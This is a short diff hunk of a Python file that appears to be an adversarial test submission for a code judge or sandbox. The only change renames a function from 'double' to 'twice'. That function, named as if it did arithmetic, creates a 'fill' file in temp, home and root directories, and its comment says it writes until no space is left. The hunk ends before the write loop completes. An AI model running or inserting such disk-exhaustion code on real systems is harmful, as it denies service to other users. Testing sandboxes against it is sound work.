@@ -1,7 +1,7 @@
 # verdict: accepted memory_limit_exceeded output_limit_exceeded run_time_error
 # Writes to every place until nothing takes more.
 import os
-def double(n):
+def twice(n):
     for place in (".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/"):
         try:
             with open(os.path.join(place, "fill"), "wb") as file:
